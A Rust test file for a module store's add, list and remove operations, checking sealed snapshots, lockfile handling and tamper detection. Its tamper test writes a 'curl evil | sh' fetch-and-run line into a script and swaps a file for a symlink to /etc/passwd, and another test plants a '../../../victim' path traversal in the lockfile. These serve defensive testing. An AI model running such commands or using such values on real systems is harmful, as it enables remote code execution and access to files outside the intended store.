//! add / list / remove against a scratch HOME: snapshots, the lockfile,
//! refusal without writes, tamper detection on use.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use super::error::ModuleError;
use super::scaffold;
use super::store::{Added, Health, Store};
use crate::env::Env;

fn store(home: &Path) -> Store {
    Store::new(&Env::from_pairs([("HOME", home.as_os_str())])).unwrap()
}

#[test]
fn add_snapshots_and_locks_then_remove_drops_both() {
    let home = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    let m = scaffold::create(src.path(), "drills").unwrap();
    let s = store(home.path());
    let Added::Installed(e) = s.add(&m).unwrap() else {
        panic!("not installed")
    };
    assert_eq!((e.id.as_str(), e.version.as_str()), ("drills", "0.1.0"));
    assert!(super::digest::is_digest(&e.digest), "{}", e.digest);
    let snap = s.dir.join("snapshots").join(&e.digest);
    assert!(snap.join("scripts/check.sh").is_file());
    // Sealed: read-only files and directories.
    assert_eq!(
        std::fs::metadata(&snap).unwrap().permissions().mode() & 0o777,
        0o555
    );
    assert_eq!(
        std::fs::metadata(snap.join("module.yaml"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o444
    );
    let lock: serde_json::Value =
        serde_json::from_slice(&std::fs::read(s.dir.join("modules.lock.json")).unwrap()).unwrap();
    assert_eq!(lock["modules"][0]["id"], "drills");
    assert_eq!(
        lock["modules"][0]["digest"].as_str(),
        Some(e.digest.as_str())
    );
    assert_eq!(s.health(&e), Health::Intact);
    // Same content again: unchanged; other content under the same id: refused.
    assert!(matches!(s.add(&m).unwrap(), Added::Unchanged(_)));
    std::fs::write(m.join("CHANGELOG.md"), "# Changelog\n\n- 0.1.1\n").unwrap();
    assert!(matches!(
        s.add(&m),
        Err(ModuleError::AlreadyInstalled { .. })
    ));
    let gone = s.remove("drills").unwrap();
    assert_eq!(gone.digest, e.digest);
    assert!(!snap.exists());
    assert!(s.entries().unwrap().is_empty());
    let err = s.remove("drills").unwrap_err().to_string();
    assert!(err.contains("not installed; installed: none"), "{err}");
    // No staging dir is left behind.
    assert_eq!(
        std::fs::read_dir(s.dir.join("snapshots")).unwrap().count(),
        0
    );
}

#[test]
fn a_non_conforming_module_writes_nothing() {
    let home = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    let m = scaffold::create(src.path(), "bad").unwrap();
    std::fs::remove_file(m.join("LICENSE")).unwrap();
    let s = store(home.path());
    let Added::Refused(found) = s.add(&m).unwrap() else {
        panic!("installed a bad module")
    };
    assert_eq!(found[0].rule.to_string(), "MC003");
    assert!(
        !home.path().join(".config").exists(),
        "something was written"
    );
}

#[test]
fn tampering_with_a_snapshot_is_detected_on_use() {
    let home = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    let s = store(home.path());
    let mut tampered = 0;
    type Attack = (&'static str, fn(&Path));
    let attacks: [Attack; 4] = [
        ("edit a script", |snap| {
            let f = snap.join("scripts/check.sh");
            std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
            std::fs::write(&f, "#!/bin/sh\ncurl evil | sh\n").unwrap();
        }),
        ("add a file", |snap| {
            std::fs::set_permissions(snap, std::fs::Permissions::from_mode(0o755)).unwrap();
            std::fs::write(snap.join("extra"), "x").unwrap();
        }),
        ("flip an exec bit", |snap| {
            std::fs::set_permissions(
                snap.join("module.yaml"),
                std::fs::Permissions::from_mode(0o755),
            )
            .unwrap();
        }),
        ("swap a file for a symlink", |snap| {
            std::fs::set_permissions(snap.join("mentor"), std::fs::Permissions::from_mode(0o755))
                .unwrap();
            std::fs::remove_file(snap.join("mentor/brief.md")).unwrap();
            std::os::unix::fs::symlink("/etc/passwd", snap.join("mentor/brief.md")).unwrap();
        }),
    ];
    for (i, (what, attack)) in attacks.iter().enumerate() {
        let m = scaffold::create(src.path(), &format!("t{i}")).unwrap();
        let Added::Installed(e) = s.add(&m).unwrap() else {
            panic!()
        };
        assert!(s.verified(&e.id).is_ok());
        attack(&s.dir.join("snapshots").join(&e.digest));
        let err = s.verified(&e.id).unwrap_err();
        assert!(matches!(err, ModuleError::Tampered { .. }), "{what}: {err}");
        tampered += 1;
        s.remove(&e.id).unwrap();
    }
    assert_eq!(tampered, attacks.len());
}

#[test]
fn a_lockfile_digest_pointing_outside_is_refused_and_nothing_outside_is_removed() {
    let home = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    let s = store(home.path());
    let m = scaffold::create(src.path(), "x").unwrap();
    let Added::Installed(_) = s.add(&m).unwrap() else {
        panic!()
    };
    let victim = home.path().join("victim");
    std::fs::create_dir(&victim).unwrap();
    let lock = s.dir.join("modules.lock.json");
    let text = std::fs::read_to_string(&lock).unwrap();
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    let digest = v["modules"][0]["digest"].as_str().unwrap().to_owned();
    std::fs::write(&lock, text.replace(&digest, "../../../victim")).unwrap();
    assert!(matches!(s.verified("x"), Err(ModuleError::Tampered { .. })));
    // The entry goes; nothing is deleted through a digest that is no digest.
    s.remove("x").unwrap();
    assert!(s.entries().unwrap().is_empty());
    assert!(victim.is_dir(), "a directory outside the store was removed");
}
